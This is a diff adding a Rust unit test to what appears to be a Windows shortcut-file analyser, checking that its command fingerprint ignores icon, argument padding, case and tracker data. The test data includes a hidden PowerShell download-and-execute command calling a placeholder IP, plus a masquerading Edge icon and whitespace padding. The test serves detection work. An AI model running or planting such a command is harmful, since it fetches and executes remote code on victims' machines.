@@ -451,3 +451,58 @@ fn environment_block_launcher_is_examined_whatever_is_shown() {
         n.findings
     );
 }
+
+#[test]
+fn command_fingerprint_ignores_icon_padding_and_tracker() {
+    let args = "-nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"";
+    let a = build(&Spec {
+        path: PS,
+        link_info: Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
+        args,
+        icon: Some("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
+        icon_index: 11,
+        show: 7,
+        machine: Some("desktop-a1b2c3"),
+        overrun: false,
+    });
+    // The same command line from another build: other icon, argument padding and case, another
+    // machine in the tracker block, no LinkInfo.
+    let padded = format!("{}{}", " ".repeat(300), args.replace("-nop", "-NoP  "));
+    let b = build(&Spec {
+        path: PS,
+        link_info: None,
+        args: &padded,
+        icon: Some("%SystemRoot%\\System32\\imageres.dll"),
+        icon_index: 2,
+        show: 1,
+        machine: Some("laptop-9z"),
+        overrun: false,
+    });
+    let (na, nb) = (findings(&a), findings(&b));
+    assert_ne!(na.sha256, nb.sha256);
+    assert_eq!(na.fingerprints.len(), 1);
+    assert_eq!(na.fingerprints[0].kind, crate::FingerprintKind::LnkCommand);
+    assert_eq!(na.fingerprints, nb.fingerprints);
+    // The fingerprint is the normalised target and arguments, nothing else.
+    let want = crate::fingerprint(
+        crate::FingerprintKind::LnkCommand,
+        format!(
+            "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe {}",
+            args.to_lowercase()
+        )
+        .as_bytes(),
+    );
+    assert_eq!(na.fingerprints.first(), want.as_ref());
+    // Another URL is another command.
+    let c = build(&Spec {
+        path: PS,
+        link_info: None,
+        args: &args.replace("198.51.100.9", "198.51.100.10"),
+        icon: None,
+        icon_index: 0,
+        show: 1,
+        machine: None,
+        overrun: false,
+    });
+    assert_ne!(findings(&c).fingerprints, na.fingerprints);
+}
